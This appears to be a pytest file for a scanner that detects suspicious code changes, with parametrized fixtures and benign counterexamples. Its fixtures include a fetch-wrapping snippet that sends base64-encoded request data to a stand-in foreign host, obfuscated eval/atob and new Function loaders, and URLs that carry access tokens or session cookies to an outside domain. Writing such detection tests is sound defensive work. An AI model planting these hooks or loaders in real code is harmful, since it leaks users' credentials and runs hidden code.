"""Programs out of a text nobody reads, what stands in the place of `fetch`, secrets in addresses."""

from __future__ import annotations

import pytest

from tests.facts.effects.support import kinds

BASE = "const list = 1;\n"
FETCH = (
    "w.fetch = function (u, o) {\n  return f('https://cdn.foreign.example/p?' + btoa(o)), "
    "f.apply(w, arguments);\n};\n"
)


@pytest.mark.parametrize(
    "more",
    [
        "eval(atob('YWxlcnQoMSk='));\n",
        '[]["filter"]["constructor"](atob("YWxlcnQoMSk="))();\n',
        "const code = Buffer.from(text, 'base64').toString();\nnew Function(code)();\n",
        "import('data:text/javascript;base64,YWxlcnQoMSk=');\n",
        "document.write(unescape('%3Cscript%3E'));\n",
    ],
)
def test_unpacked_and_run(more: str) -> None:
    assert ("flow.payload", "high", "medium") in kinds({"web/a.js": BASE}, {"web/a.js": BASE + more})


@pytest.mark.parametrize(
    "more",
    [
        "const note = atob(location.hash);\nshow(note);\n",
        "class A { constructor(x) { this.x = atob(x); } }\n",
        "setTimeout(() => atob(text), 10);\n",
    ],
)
def test_unpacked_and_shown(more: str) -> None:
    assert not kinds({"web/a.js": BASE}, {"web/a.js": BASE + more})


def test_what_a_page_sends_by() -> None:
    found = kinds({"web/a.js": BASE}, {"web/a.js": BASE, "static/vendor/p.min.js": FETCH})
    assert ("flow.secret", "high", "medium") in found
    own = FETCH.replace("https://cdn.foreign.example/p?", "/p?")
    assert not kinds({"web/a.js": BASE}, {"web/a.js": BASE, "static/vendor/p.min.js": own})


@pytest.mark.parametrize(
    ("path", "more", "is_told"),
    [
        ("a.py", 'def go(user):\n    return f"https://go.foreign.example/?t={user.access_token}"\n', True),
        (
            "a.py",
            'def go(key):\n    return "https://go.foreign.example/?session=" + cookies["session"]\n',
            True,
        ),
        ("a.ts", "const at = `https://go.foreign.example/?t=${user.accessToken}`;\n", True),
        ("a.py", 'def go(page):\n    return f"https://go.foreign.example/?page={page.number}"\n', False),
        ("a.py", 'def go(user):\n    return f"http://localhost:80/?t={user.access_token}"\n', False),
    ],
)
def test_secrets_in_addresses(path: str, more: str, is_told: bool) -> None:
    before = "a = 1\n" if path.endswith(".py") else BASE
    assert (("flow.secret", "medium", "medium") in kinds({path: before}, {path: before + more})) is is_told
